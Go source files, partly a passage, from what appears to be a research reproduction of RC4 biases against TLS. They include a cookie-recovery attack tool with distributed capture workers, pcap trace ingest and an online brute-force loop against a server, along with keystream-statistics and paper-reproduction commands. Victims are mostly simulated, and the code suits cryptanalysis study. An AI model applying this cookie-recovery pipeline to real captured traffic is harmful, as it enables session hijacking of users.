func emitJSON(enabled bool, r cliutil.RunResult) {
	if err := r.Emit(enabled); err != nil {
		fatal(err)
	}
}

// runFleetWorker joins a cmd/fleetd coordinator and collects leased capture
// lanes until the coordinator declares the run over. Model-mode lanes draw
// their sufficient statistics from the lane's derived seed; exact-mode
// lanes replay the victim stream from the lane's absolute offset (the
// victim's cipher stream is fast-forwarded at raw PRGA speed) — or, when
// -pcap names trace shards, carve the lane's observation range out of the
// files. Every lane is a pure function of the job, so re-captures after a
// lease expiry are byte-identical.
func runFleetWorker(addr, id string, fp [16]byte, cfg cookieattack.Config, req httpmodel.Request, secret string, workers int, pcapPaths []string) {
	proc := id
	if proc == "" {
		proc = "cookieattack-worker"
	}
	w := &fleet.Worker{
		Addr:        addr,
		ID:          id,
		Attack:      "cookie",
		Fingerprint: fp,
		Logf:        cliutil.IndentLogf,
		// Per-lane collect spans ride each evidence upload; a traced
		// coordinator folds them under its own trace, an untraced one
		// ignores them.
		Tracer: obs.NewJournal(proc, 1024),
		Collect: func(job fleet.JobSpec, lease fleet.Lease) ([]byte, error) {
			a, err := collectCookieLane(cfg, req, secret, job, lease, workers, pcapPaths)
			if err != nil {
				return nil, err
			}
			var buf bytes.Buffer
			if err := a.WriteSnapshot(&buf); err != nil {
				return nil, err
			}
			return buf.Bytes(), nil
		},
	}
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt)
	defer stop()
	fmt.Printf("[2/2] fleet worker joining %s...\n", addr)
	stats, err := w.Run(ctx)
	fmt.Printf("      worker done: %d lanes (%d records) uploaded, %d rejected as already covered\n",
		stats.Lanes, stats.Records, stats.Rejected)
	if stats.StopReason != "" {
		fmt.Printf("      coordinator: %s\n", stats.StopReason)
	}
	if err != nil {
		fatal(err)
	}
}

// collectCookieLane captures one leased lane into a fresh evidence
// accumulator stamped with the lane's stream identity.
func collectCookieLane(cfg cookieattack.Config, req httpmodel.Request, secret string, job fleet.JobSpec, lease fleet.Lease, workers int, pcapPaths []string) (*cookieattack.Attack, error) {
	switch job.Mode {
	case "model":
		if pcapPaths != nil {
			return nil, errors.New("-pcap serves exact-mode jobs: a trace is one concrete capture stream, not a statistical model")
		}
		return cookieattack.CollectLane(cfg, []byte(secret), lease.Stream,
			cliutil.LaneSeed(job.Seed, lease.Lane), lease.Records, workers)
	case "exact":
		a, err := cookieattack.New(cfg)
		if err != nil {
			return nil, err
		}
		a.Workers = workers
		a.Stream = lease.Stream
		if pcapPaths != nil {
			// Serve the lane from the trace shards: the files concatenate
			// into one logical stream, and the lane's observation range is
			// carved out strictly — a shard set that cannot cover the lane
			// fails loudly rather than uploading short evidence.
			_, err := cookieattack.CollectTraceFiles(a, len(cfg.Plaintext)+tlsrec.MACSize,
				pcapPaths, lease.Start, lease.Records, true)
			if err != nil {
				return nil, err
			}
			return a, nil
		}
		master := make([]byte, 48)
		rand.New(rand.NewSource(job.Seed)).Read(master)
		victim, err := netsim.NewHTTPSVictim(master, req)
		if err != nil {
			return nil, err
		}
		victim.Skip(lease.Start) // raw PRGA fast-forward to the lane's offset
		collector := &tlsrec.CollectRequests{WantLen: victim.RecordPlaintextLen()}
		var observeErr error
		for i := uint64(0); i < lease.Records; i++ {
			rec := victim.SendRequest()
			if err := collector.Feed(rec, func(body []byte) {
				if err := a.ObserveRecord(body); err != nil && observeErr == nil {
					observeErr = err
				}
			}); err != nil {
				return nil, err
			}
			if observeErr != nil {
				return nil, observeErr
			}
		}
		return a, nil
	default:
		return nil, fmt.Errorf("unknown fleet mode %q", job.Mode)
	}
}

// runOnline drives the §6.2 closed loop: capture to the next cadence point
// (model-mode sufficient statistics or exact records through the scanner),
// decode the candidate list, brute-force it against the server, and stop at
// the first confirmed cookie. Decode points are absolute record counts, so
// a checkpointed run that is killed and resumed (-checkpoint/-resume)
// continues on exactly the cadence an uninterrupted run would use.
func runOnline(attack *cookieattack.Attack, req httpmodel.Request, secret, mode string, seed int64, budget uint64, cad online.Cadence, depth int, checkpoint string, checkpointEvery uint64, jsonOut bool) {
	if budget <= attack.Records {
		fatal(fmt.Errorf("online: budget %d already reached by resumed evidence (%d records)", budget, attack.Records))
	}
	server := &netsim.CookieServer{Secret: []byte(secret)}
	streamID := snapshot.StreamInfo{Mode: mode, Seed: seed}

	var captureTo func(uint64) error
	switch mode {
	case "model":
		if attack.Records > 0 && attack.Stream != streamID {
			fatal(fmt.Errorf("resume: snapshot stream is %s/seed %d, flags request model/seed %d",
				attack.Stream.Mode, attack.Stream.Seed, seed))
		}
		attack.Stream = streamID
		captureTo = func(target uint64) error {
			// Chunks after the first derive a fresh noise stream from the
			// continuation point, exactly like a resumed offline top-up —
			// and since decode points are absolute, a resumed online run
			// chunks (and therefore draws) identically to an uninterrupted
			// one.
			rng := rand.New(rand.NewSource(cliutil.ContinuationSeed(seed, attack.Records)))
			return attack.SimulateStatistics(rng, []byte(secret), target-attack.Records)
		}
	case "exact":
		if attack.Records > 0 && attack.Stream != streamID {
			fatal(fmt.Errorf("resume: snapshot stream is %s/seed %d, flags request exact/seed %d",
				attack.Stream.Mode, attack.Stream.Seed, seed))
		}
		attack.Stream = streamID
		master := make([]byte, 48)
		rand.New(rand.NewSource(seed)).Read(master)
		victim, err := netsim.NewHTTPSVictim(master, req)
		if err != nil {
			fatal(err)
		}
		if attack.Records > 0 {
			fmt.Printf("      fast-forwarding victim stream past %d resumed records...\n", attack.Records)
			victim.Skip(attack.Records)
		}
		collector := &tlsrec.CollectRequests{WantLen: victim.RecordPlaintextLen()}
		captureTo = func(target uint64) error {
			var observeErr error
			err := cliutil.CheckpointLoop{
				Iterations: target - attack.Records,
				Path:       checkpoint,
				Every:      checkpointEvery,
				Unit:       "records",
				Save:       func() error { return attack.WriteSnapshotFile(checkpoint) },
				Progress:   func() uint64 { return attack.Records },
				Step: func() (bool, error) {
					rec := victim.SendRequest()
					if err := collector.Feed(rec, func(body []byte) {
						if err := attack.ObserveRecord(body); err != nil && observeErr == nil {
							observeErr = err
						}
					}); err != nil {
						return false, err
					}
					return true, observeErr
				},
			}.Run()
			if errors.Is(err, cliutil.ErrInterrupted) {
				os.Exit(130)
			}
			return err
		}
	default:
		fatal(fmt.Errorf("unknown mode %q", mode))
	}

	fmt.Printf("[2/3] online closed loop: budget %d records, first decode at %d, %s cadence, %d candidates/round...\n",
		budget, cad.First, cad, depth)
	res, err := online.Run(online.Config{
		Decoder:       attack,
		Oracle:        server,
		Cadence:       cad,
		MaxCandidates: depth,
		Budget:        budget,
		CaptureTo:     captureTo,
		Checkpoint: cliutil.OnlineCheckpoint(checkpoint, "records",
			attack.WriteSnapshotFile, func() uint64 { return attack.Records }),
		Logf: cliutil.IndentLogf,
	})
	if err != nil {
		fmt.Printf("      online attack failed: %v (budget %d records; try a deeper list or a larger budget)\n", err, budget)
		emitJSON(jsonOut, cliutil.OnlineRunResult("cookie", mode, res, err))
		os.Exit(1)
	}
	if checkpoint != "" {
		if err := attack.WriteSnapshotFile(checkpoint); err != nil {
			fatal(err)
		}
	}
	saved := budget - res.Observed
	fmt.Printf("[3/3] online success: cookie %q at rank %d after %d records — %d under the %d budget (%.1f h of capture saved)\n",
		res.Plaintext, res.Rank, res.Observed, saved, budget,
		float64(saved)/netsim.HTTPSRequestsPerSecond/3600)
	fmt.Printf("      %d decode rounds, %d server checks (+%d cache-skipped), %.1f h of traffic at %d req/s, %.1f s of checks at %d checks/s\n",
		res.Rounds, res.Checks, res.Skipped,
		float64(res.Observed)/netsim.HTTPSRequestsPerSecond/3600, netsim.HTTPSRequestsPerSecond,
		float64(res.Checks)/netsim.BruteForceTestsPerSecond, netsim.BruteForceTestsPerSecond)
	fmt.Printf("      wall-clock %v (capture %v, decode %v, oracle %v)\n",
		res.Elapsed.Round(time.Millisecond), res.CaptureTime.Round(time.Millisecond),
		res.DecodeTime.Round(time.Millisecond), res.OracleTime.Round(time.Millisecond))
	if string(res.Plaintext) == secret {
		fmt.Println("      recovered cookie matches the secret — attack complete")
	}
	emitJSON(jsonOut, cliutil.OnlineRunResult("cookie", mode, res, nil))
}

// collectExact drives the real TLS pipeline: the victim seals requests on a
// persistent connection, the §6.3 scanner reassembles and filters them, and
// the attack folds each record in. The loop checkpoints every
// checkpointEvery records and flushes a final checkpoint on Ctrl-C/SIGTERM,
// so a killed capture resumes exactly where it stopped: the victim derives
// its keys from the shard seed and its cipher stream is fast-forwarded past
// the records the snapshot already holds, making an interrupted-and-resumed
// run byte-identical to an uninterrupted one.
func collectExact(attack *cookieattack.Attack, req httpmodel.Request, remaining uint64, seed int64, checkpoint string, checkpointEvery uint64) {
	master := make([]byte, 48)
	rand.New(rand.NewSource(seed)).Read(master)
	victim, err := netsim.NewHTTPSVictim(master, req)
	if err != nil {
		fatal(err)
	}
	if attack.Records > 0 {
		fmt.Printf("      fast-forwarding victim stream past %d resumed records...\n", attack.Records)
		victim.Skip(attack.Records) // raw PRGA skip: no HMAC or record assembly
	}

	// The victim's records flow through the §6.3 stream scanner, which
	// reassembles TLS framing and filters the fixed-size requests.
	collector := &tlsrec.CollectRequests{WantLen: victim.RecordPlaintextLen()}
	var observeErr error
	err = cliutil.CheckpointLoop{
		Iterations: remaining,
		Path:       checkpoint,
		Every:      checkpointEvery,
		Unit:       "records",
		Save:       func() error { return attack.WriteSnapshotFile(checkpoint) },
		Progress:   func() uint64 { return attack.Records },
		Step: func() (bool, error) {
			rec := victim.SendRequest()
			if err := collector.Feed(rec, func(body []byte) {
				if err := attack.ObserveRecord(body); err != nil && observeErr == nil {
					observeErr = err
				}
			}); err != nil {
				return false, err
			}
			return true, observeErr
		},
	}.Run()
	if errors.Is(err, cliutil.ErrInterrupted) {
		os.Exit(130)
	}
	if err != nil {
		fatal(err)
	}
	fmt.Printf("      scanner matched %d records, dropped %d other\n",
		collector.Matched, collector.Other)
}

// writeCookiePcap writes n records of the seed-derived exact-mode victim
// stream as a capture file — the sim → pcap half of the round trip, and
// the way trace shards for offline or fleet ingest are produced. The
// extension picks the container: .pcapng writes pcapng, anything else
// classic pcap.
func writeCookiePcap(path string, req httpmodel.Request, seed int64, n uint64) error {
	master := make([]byte, 48)
	rand.New(rand.NewSource(seed)).Read(master)
	victim, err := netsim.NewHTTPSVictim(master, req)
	if err != nil {
		return err
	}
	pw, done, err := trace.CreateFile(path, trace.LinkTypeEthernet)
	if err != nil {
		return err
	}
	sw, err := netsim.NewStreamWriter(pw, trace.LinkTypeEthernet)
	if err != nil {
		done()
		return err
	}
	fmt.Printf("[2/2] writing %d records of the exact victim stream (seed %d) -> %s\n", n, seed, path)
	if err := victim.WriteTrace(sw, n); err != nil {
		done()
		return err
	}
	if err := done(); err != nil {
		return err
	}
	info, err := os.Stat(path)
	if err != nil {
		return err
	}
	fmt.Printf("      %d records, %.1f MB\n", n, float64(info.Size())/(1<<20))
	return nil
}

func minInt(xs []int) int {
	m := xs[0]
	for _, x := range xs {
		if x < m {
			m = x
		}
	}
	return m
}

func maxInt(xs []int) int {
	m := xs[0]
	for _, x := range xs {
		if x > m {
			m = x
		}
	}
	return m
}

func fatal(err error) {
	fmt.Fprintln(os.Stderr, "cookieattack:", err)
	os.Exit(1)
}
