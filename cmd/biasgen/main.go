// Command biasgen generates RC4 keystream statistics datasets and saves
// them for later analysis by biastest — the repository's version of the
// paper's §3.2 distributed worker system, including its operational
// realities: multi-hour runs are generated in checkpointed chunks that
// survive a kill, and shards generated on independent machines (disjoint
// -lanebase ranges or different -seed values) merge into one dataset.
//
// Usage:
//
//	biasgen -kind single -positions 513 -keys 1048576 -out single.gob
//	biasgen -kind digraph -positions 64 -keys 1048576 -out consec.gob
//
// Checkpointed generation (kill and rerun to resume):
//
//	biasgen -kind single -positions 64 -keys 16777216 \
//	        -checkpoint-every 1048576 -out single.gob -resume
//
// Sharded generation across machines, then merge:
//
//	biasgen -kind single -positions 64 -keys 8388608 -lanebase 0     -out shard0.gob
//	biasgen -kind single -positions 64 -keys 8388608 -lanebase 65536 -out shard1.gob
//	biasgen -merge shard0.gob,shard1.gob -out all.gob
package main

import (
	"context"
	"flag"
	"fmt"
	"os"
	"os/signal"
	"runtime"
	"syscall"

	"rc4break/internal/cliutil"
	"rc4break/internal/dataset"
)

// chunkLaneStride spaces the lane ranges of consecutive chunks in the high
// bits of the lane space, so chunk lanes can never walk into another
// shard's -lanebase range (lane bases are validated to stay below the
// stride) and no two chunks ever share an RC4 key sequence.
const chunkLaneStride = 1 << 40

func main() {
	kind := flag.String("kind", "single", "dataset kind: single | digraph")
	positions := flag.Int("positions", 64, "keystream positions to cover")
	keys := flag.Uint64("keys", 1<<20, "number of random 16-byte RC4 keys")
	workers := flag.Int("workers", 0, "parallel workers (0 = GOMAXPROCS)")
	out := flag.String("out", "", "output file (required)")
	seed := flag.Uint64("seed", 0, "master key seed (first 8 bytes of the AES master)")
	laneBase := flag.Uint64("lanebase", 0, "key-lane base; give shards on different machines disjoint ranges")
	every := flag.Uint64("checkpoint-every", 0, "keys per chunk; > 0 writes -out after every chunk so a killed run can resume")
	resume := flag.Bool("resume", false, "continue a checkpointed run from -out (flags must match the original run)")
	merge := flag.String("merge", "", "comma-separated dataset files to merge into -out (no generation)")
	flag.Parse()

	if *out == "" {
		fmt.Fprintln(os.Stderr, "biasgen: -out is required")
		os.Exit(2)
	}

	if *merge != "" {
		mergeDatasets(cliutil.SplitList(*merge), *out)
		return
	}

	var master [16]byte
	for i := 0; i < 8; i++ {
		master[i] = byte(*seed >> (8 * i))
	}

	var factory func() dataset.Observer
	switch *kind {
	case "single":
		factory = func() dataset.Observer { return dataset.NewSingleByteCounts(*positions) }
	case "digraph":
		factory = func() dataset.Observer { return dataset.NewDigraphCounts(*positions) }
	default:
		fmt.Fprintf(os.Stderr, "biasgen: unknown kind %q\n", *kind)
		os.Exit(2)
	}

	// The checkpoint metadata pins every flag the key sequence depends on:
	// resuming under a different seed, lane base, chunking, or worker
	// count (dataset.SplitKeys hands each worker its own key lane, so the
	// key population varies with it — resolve the GOMAXPROCS default to a
	// concrete count before pinning) would silently mix incompatible key
	// populations, so it is rejected.
	resolvedWorkers := *workers
	if resolvedWorkers <= 0 {
		resolvedWorkers = runtime.GOMAXPROCS(0)
	}
	// A chunk occupies lanes [lanebase + chunk·stride, … + workers); the
	// base AND the worker span must stay inside one stride, or a shard's
	// lanes would walk into another chunk's range and draw the same keys.
	// Compared by subtraction so a lane base near 2^64 cannot wrap the sum
	// past the check.
	if uint64(resolvedWorkers) >= chunkLaneStride || *laneBase > chunkLaneStride-uint64(resolvedWorkers) {
		fatal(fmt.Errorf("-lanebase %d + %d workers exceeds the per-chunk lane stride %d; shard bases (spaced at least a worker count apart) must stay below it", *laneBase, resolvedWorkers, uint64(chunkLaneStride)))
	}
	genMeta := map[string]uint64{
		"seed":             *seed,
		"lanebase":         *laneBase,
		"checkpoint-every": *every,
		"workers":          uint64(resolvedWorkers),
	}

	// Resume: reload the checkpoint and skip the chunks it already holds.
	// Chunk lanes are a fixed function of the chunk index, so the resumed
	// run generates exactly the keys the uninterrupted run would have.
	var obs dataset.Observer
	var done uint64
	if *resume {
		loaded, meta, err := dataset.LoadFileMeta(*out)
		if os.IsNotExist(err) {
			// Bootstrap-friendly: "kill and rerun" keeps one command line,
			// so a missing checkpoint simply means this is the first run.
			fmt.Printf("no checkpoint at %s yet; starting fresh\n", *out)
		} else if err != nil {
			fatal(fmt.Errorf("resume %s: %w", *out, err))
		} else {
			if err := validateResume(loaded, *kind, *positions); err != nil {
				fatal(err)
			}
			if meta == nil {
				fatal(fmt.Errorf("resume %s: file carries no generation parameters (not a biasgen checkpoint)", *out))
			}
			for k, want := range genMeta {
				got, ok := meta[k]
				if !ok {
					fatal(fmt.Errorf("resume %s: checkpoint records no -%s value", *out, k))
				}
				if got != want {
					fatal(fmt.Errorf("resume %s: checkpoint was generated with -%s=%d, flags request %d", *out, k, got, want))
				}
			}
			obs = loaded
			done = dataset.KeysObserved(loaded)
			switch {
			case done >= *keys:
				fmt.Printf("resume %s: already holds %d keys (target %d); nothing to do\n", *out, done, *keys)
				return
			case *every == 0:
				// An every=0 run drew all its keys from chunk 0; extending it
				// would re-draw those same lanes and double-count them.
				fatal(fmt.Errorf("resume %s: run was generated without -checkpoint-every and cannot be extended", *out))
			case done%*every != 0:
				fatal(fmt.Errorf("checkpoint holds %d keys, which is not a multiple of -checkpoint-every %d", done, *every))
			}
			fmt.Printf("resuming from %s: %d/%d keys done\n", *out, done, *keys)
		}
	}

	// Ctrl-C cancels the in-flight chunk; completed chunks are already on
	// disk, so the run resumes from the last checkpoint.
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()

	chunkSize := *keys
	if *every > 0 {
		chunkSize = *every
	}
	for done < *keys {
		n := chunkSize
		if remaining := *keys - done; n > remaining {
			n = remaining
		}
		chunk := done / chunkSize
		chunkObs, err := dataset.Run(dataset.Config{
			Keys:       n,
			Workers:    resolvedWorkers,
			Master:     master,
			Ctx:        ctx,
			LaneOffset: *laneBase + chunk*chunkLaneStride,
		}, factory)
		if err != nil {
			if ctx.Err() != nil {
				switch {
				case *every > 0 && done > 0:
					fmt.Fprintf(os.Stderr, "biasgen: interrupted at %d/%d keys; rerun with -resume to continue\n", done, *keys)
				case *every > 0:
					fmt.Fprintf(os.Stderr, "biasgen: interrupted before the first chunk completed; nothing checkpointed yet\n")
				default:
					fmt.Fprintf(os.Stderr, "biasgen: interrupted at %d/%d keys; no checkpoint written (set -checkpoint-every to make runs resumable)\n", done, *keys)
				}
				os.Exit(130)
			}
			fatal(err)
		}
		if obs == nil {
			obs = chunkObs
		} else if err := obs.Merge(chunkObs); err != nil {
			fatal(err)
		}
		done += n
		if *every > 0 {
			if err := dataset.SaveFileMeta(*out, obs, genMeta); err != nil {
				fatal(err)
			}
			fmt.Printf("checkpoint: %d/%d keys -> %s\n", done, *keys, *out)
		}
	}

	// With -checkpoint-every the loop already wrote -out after the final
	// chunk; only unchunked runs still need their single save.
	if *every == 0 {
		if err := dataset.SaveFileMeta(*out, obs, genMeta); err != nil {
			fatal(err)
		}
	}
	fmt.Printf("wrote %s dataset: %d keys x %d positions -> %s\n", *kind, *keys, *positions, *out)
}

// mergeDatasets combines shard files into one dataset; shapes must match,
// and shards whose generation parameters show they drew the same key
// population (identical seed and lane base) are rejected rather than
// double-counted. Files without metadata (legacy or already-merged) carry
// no lineage and are merged as-is.
func mergeDatasets(paths []string, out string) {
	var merged dataset.Observer
	var total uint64
	seen := make(map[[2]uint64]string)
	for _, p := range paths {
		obs, meta, err := dataset.LoadFileMeta(p)
		if err != nil {
			fatal(fmt.Errorf("merge %s: %w", p, err))
		}
		if meta != nil {
			id := [2]uint64{meta["seed"], meta["lanebase"]}
			if prev, dup := seen[id]; dup {
				fatal(fmt.Errorf("merge %s: same seed/lanebase as %s — the shards drew the same keys and would be double-counted", p, prev))
			}
			seen[id] = p
		}
		if merged == nil {
			merged = obs
		} else if err := merged.Merge(obs); err != nil {
			fatal(fmt.Errorf("merge %s: %w", p, err))
		}
		total = dataset.KeysObserved(merged)
		fmt.Printf("merged %s (%d keys, total %d)\n", p, dataset.KeysObserved(obs), total)
	}
	if merged == nil {
		fatal(fmt.Errorf("no dataset files to merge"))
	}
	if err := dataset.SaveFile(out, merged); err != nil {
		fatal(err)
	}
	fmt.Printf("wrote merged dataset: %d keys -> %s\n", total, out)
}

// validateResume checks that the checkpoint matches the requested dataset
// shape before any counter is extended.
func validateResume(obs dataset.Observer, kind string, positions int) error {
	switch o := obs.(type) {
	case *dataset.SingleByteCounts:
		if kind != "single" || o.Positions != positions {
			return fmt.Errorf("checkpoint is single/%d positions, flags request %s/%d", o.Positions, kind, positions)
		}
	case *dataset.DigraphCounts:
		if kind != "digraph" || o.Positions != positions {
			return fmt.Errorf("checkpoint is digraph/%d positions, flags request %s/%d", o.Positions, kind, positions)
		}
	default:
		return fmt.Errorf("checkpoint holds %T, which biasgen does not generate", obs)
	}
	return nil
}

func fatal(err error) {
	fmt.Fprintln(os.Stderr, "biasgen:", err)
	os.Exit(1)
}
