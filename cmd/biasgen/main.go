// Command biasgen generates RC4 keystream statistics datasets and saves
// them for later analysis by biastest — the repository's version of the
// paper's §3.2 distributed worker system.
//
// Usage:
//
//	biasgen -kind single -positions 513 -keys 1048576 -out single.gob
//	biasgen -kind digraph -positions 64 -keys 1048576 -out consec.gob
package main

import (
	"flag"
	"fmt"
	"os"

	"rc4break/internal/dataset"
)

func main() {
	kind := flag.String("kind", "single", "dataset kind: single | digraph")
	positions := flag.Int("positions", 64, "keystream positions to cover")
	keys := flag.Uint64("keys", 1<<20, "number of random 16-byte RC4 keys")
	workers := flag.Int("workers", 0, "parallel workers (0 = GOMAXPROCS)")
	out := flag.String("out", "", "output file (required)")
	seed := flag.Uint64("seed", 0, "master key seed (first 8 bytes of the AES master)")
	flag.Parse()

	if *out == "" {
		fmt.Fprintln(os.Stderr, "biasgen: -out is required")
		os.Exit(2)
	}
	var master [16]byte
	for i := 0; i < 8; i++ {
		master[i] = byte(*seed >> (8 * i))
	}
	cfg := dataset.Config{Keys: *keys, Workers: *workers, Master: master}

	var factory func() dataset.Observer
	switch *kind {
	case "single":
		factory = func() dataset.Observer { return dataset.NewSingleByteCounts(*positions) }
	case "digraph":
		factory = func() dataset.Observer { return dataset.NewDigraphCounts(*positions) }
	default:
		fmt.Fprintf(os.Stderr, "biasgen: unknown kind %q\n", *kind)
		os.Exit(2)
	}

	obs, err := dataset.Run(cfg, factory)
	if err != nil {
		fmt.Fprintln(os.Stderr, "biasgen:", err)
		os.Exit(1)
	}
	f, err := os.Create(*out)
	if err != nil {
		fmt.Fprintln(os.Stderr, "biasgen:", err)
		os.Exit(1)
	}
	defer f.Close()
	if err := dataset.Save(f, obs); err != nil {
		fmt.Fprintln(os.Stderr, "biasgen:", err)
		os.Exit(1)
	}
	fmt.Printf("wrote %s dataset: %d keys x %d positions -> %s\n", *kind, *keys, *positions, *out)
}
