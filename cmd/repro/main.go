// Command repro regenerates every table and figure of the paper's
// evaluation at a configurable scale and prints them as text tables. With
// default flags it runs at laptop scale in minutes; larger -keys/-trials
// values approach paper scale. Keystream-generating runs can be bounded
// with -timeout, cancelled with Ctrl-C (the experiment stops at the next
// key boundary), and watched with -progress; the simulation-only drivers
// (fig7, fig10, charset) are not context-aware — a second Ctrl-C
// force-kills them.
//
// Usage:
//
//	repro [-keys N] [-trials N] [-candidates N] [-timeout D] [-progress] [-only table1,fig7,...]
package main

import (
	"context"
	"flag"
	"fmt"
	"os"
	"os/signal"
	"strings"
	"sync/atomic"

	"rc4break/internal/dataset"
	"rc4break/internal/experiments"
	"rc4break/internal/obs"
)

func main() {
	keys := flag.Uint64("keys", 1<<20, "random keys for short-term bias experiments")
	ltKeys := flag.Int("ltkeys", 32, "keys for long-term experiments (each generates -ltblocks*256 bytes)")
	ltBlocks := flag.Int("ltblocks", 4096, "256-byte blocks per long-term key")
	trials := flag.Int("trials", 16, "simulation trials per point (paper: 256-2048)")
	candidates := flag.Int("candidates", 1<<12, "cookie candidate list depth (paper: 2^23)")
	tkipKeys := flag.Uint64("tkipkeys", 1<<12, "training keys per TSC class (paper: 2^32)")
	timeout := flag.Duration("timeout", 0, "abort the run after this long (0 = no limit)")
	progress := flag.Bool("progress", false, "report keystream-generation progress on stderr")
	only := flag.String("only", "", "comma-separated subset: table1,table2,eq2,eq35,fig4,fig5,fig6,eq8,broadcast,absab,eq9,fig7,fig89,fig10,online,fleet,service,trace,placement,charset")
	jsonOut := flag.Bool("json", false, "append machine-readable JSON result lines for experiments that produce them (trace)")
	traceOut := flag.String("trace-out", "", "write a Chrome trace-event JSON of the run (one span per experiment, engine shard spans nested) to this file")
	flag.Parse()

	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt)
	defer stop()
	if *timeout > 0 {
		var cancel context.CancelFunc
		ctx, cancel = context.WithTimeout(ctx, *timeout)
		defer cancel()
	}
	// Once the context is cancelled (first Ctrl-C or deadline), restore the
	// default SIGINT disposition: the generation-backed experiments stop at
	// the next key boundary, and a second Ctrl-C force-kills the
	// simulation-only drivers (fig7, fig10, charset), which do not take a
	// context yet.
	go func() {
		<-ctx.Done()
		stop()
	}()
	var progressLineOpen atomic.Bool
	if *progress {
		ctx = dataset.WithProgress(ctx, func(done, total uint64) {
			fmt.Fprintf(os.Stderr, "\rgenerated %d/%d keys (%.1f%%)", done, total,
				100*float64(done)/float64(total))
			if done == total {
				fmt.Fprintln(os.Stderr)
			}
			progressLineOpen.Store(done != total)
		})
	}

	want := map[string]bool{}
	if *only != "" {
		for _, k := range strings.Split(*only, ",") {
			want[strings.TrimSpace(k)] = true
		}
	}

	// With -trace-out, each selected experiment gets one span under a shared
	// run span, and the engine's run/shard spans nest beneath via the
	// context; the journal is dumped as a Chrome trace-event file at exit.
	var (
		journal  *obs.Journal
		runSpan  *obs.Span
		expSpan  *obs.Span
		traceCtx context.Context // journal-bearing base the per-experiment contexts derive from
	)
	if *traceOut != "" {
		journal = obs.NewJournal("repro", obs.DefaultCapacity)
		runSpan = journal.Start(obs.SpanContext{}, "repro.run",
			obs.U64("keys", *keys), obs.Int("trials", int64(*trials)))
		traceCtx = obs.NewContext(ctx, journal)
	}
	run := func(key string) bool {
		ok := len(want) == 0 || want[key]
		if ok && journal != nil {
			expSpan.End() // close the previous experiment's span (nil-safe)
			expSpan = journal.Start(runSpan.Context(), "repro."+key)
			ctx = obs.WithParent(traceCtx, expSpan.Context())
		}
		return ok
	}
	flushTrace := func() {
		if journal == nil {
			return
		}
		expSpan.End()
		expSpan = nil
		runSpan.End()
		f, err := os.Create(*traceOut)
		if err == nil {
			if werr := obs.WriteChrome(f, journal.Snapshot()); werr == nil {
				err = f.Close()
			} else {
				f.Close()
				err = werr
			}
		}
		if err != nil {
			fmt.Fprintln(os.Stderr, "repro:", err)
			os.Exit(1)
		}
		fmt.Fprintf(os.Stderr, "repro: chrome trace -> %s\n", *traceOut)
	}
	fail := func(err error) {
		if progressLineOpen.Load() {
			fmt.Fprintln(os.Stderr) // close the partial \r-progress line
		}
		flushTrace()
		fmt.Fprintln(os.Stderr, "repro:", err)
		os.Exit(1)
	}

	if run("table1") {
		res, err := experiments.Table1(ctx, [16]byte{1}, *ltKeys, *ltBlocks, 0)
		if err != nil {
			fail(err)
		}
		res.Render(os.Stdout)
	}
	if run("table2") {
		res, err := experiments.Table2(ctx, *keys, 0)
		if err != nil {
			fail(err)
		}
		res.Render(os.Stdout)
	}
	if run("eq2") {
		res, err := experiments.ConsecutiveEq2(ctx, *keys, 0)
		if err != nil {
			fail(err)
		}
		res.Render(os.Stdout)
	}
	if run("eq35") {
		res, err := experiments.Equalities(ctx, *keys, 0)
		if err != nil {
			fail(err)
		}
		res.Render(os.Stdout)
	}
	if run("fig4") {
		res, err := experiments.Figure4(ctx, *keys, 0, 96)
		if err != nil {
			fail(err)
		}
		res.Render(os.Stdout)
	}
	if run("fig5") {
		res, err := experiments.Figure5(ctx, *keys, 0, nil)
		if err != nil {
			fail(err)
		}
		res.Render(os.Stdout)
	}
	if run("fig6") {
		res, err := experiments.Figure6(ctx, *keys, 0)
		if err != nil {
			fail(err)
		}
		res.Render(os.Stdout)
	}
	if run("eq8") {
		res, err := experiments.LongTermZeroPairs(ctx, [16]byte{2}, *ltKeys, *ltBlocks, 0)
		if err != nil {
			fail(err)
		}
		res.Render(os.Stdout)
	}
	if run("broadcast") {
		res, err := experiments.BroadcastAttack(ctx, *keys, *keys, 16, 0)
		if err != nil {
			fail(err)
		}
		res.Render(os.Stdout)
	}
	if run("absab") {
		res, err := experiments.ABSABGapVerification(ctx, [16]byte{4}, *ltKeys, *ltBlocks, nil, 0)
		if err != nil {
			fail(err)
		}
		res.Render(os.Stdout)
	}
	if run("eq9") {
		res, err := experiments.Equation9Search(ctx, [16]byte{5}, *ltKeys, *ltBlocks, nil, 0)
		if err != nil {
			fail(err)
		}
		res.Render(os.Stdout)
	}
	if run("fig7") {
		res := experiments.Figure7(7, nil, *trials, 128)
		res.Render(os.Stdout)
	}
	if run("fig89") {
		res, err := experiments.Figures8and9(experiments.TKIPParams{
			KeysPerTSC: *tkipKeys,
			Trials:     *trials,
			Seed:       1,
			Ctx:        ctx,
		})
		if err != nil {
			fail(err)
		}
		res.Render(os.Stdout)
	}
	if run("fig10") {
		res, err := experiments.Figure10(experiments.CookieParams{
			Trials:     *trials,
			Candidates: *candidates,
			Seed:       2,
		})
		if err != nil {
			fail(err)
		}
		res.Render(os.Stdout)
	}
	if run("online") {
		res, err := experiments.OnlineCookieRecords(experiments.OnlineCookieParams{
			Trials:     *trials,
			Candidates: *candidates,
			Seed:       2,
		})
		if err != nil {
			fail(err)
		}
		res.Render(os.Stdout)
	}
	if run("fleet") {
		res, err := experiments.FleetVsSingle(experiments.FleetParams{})
		if err != nil {
			fail(err)
		}
		res.Render(os.Stdout)
	}
	if run("service") {
		res, err := experiments.ServiceVsSolo(experiments.ServiceParams{})
		if err != nil {
			fail(err)
		}
		res.Render(os.Stdout)
	}
	if run("trace") {
		res, results, err := experiments.TraceVsSim(experiments.TraceParams{})
		if err != nil {
			fail(err)
		}
		res.Render(os.Stdout)
		if *jsonOut {
			for _, r := range results {
				if err := r.Write(os.Stdout); err != nil {
					fail(err)
				}
			}
		}
	}
	if run("placement") {
		trainKeys := *tkipKeys
		if trainKeys == 0 {
			trainKeys = 1 << 10 // placement always measures a trained model
		}
		res, err := experiments.PayloadPlacement(ctx, trainKeys, 0)
		if err != nil {
			fail(err)
		}
		res.Render(os.Stdout)
	}
	if run("charset") {
		res, err := experiments.CharsetAblation(3, 9<<27, *trials, *candidates)
		if err != nil {
			fail(err)
		}
		res.Render(os.Stdout)
	}
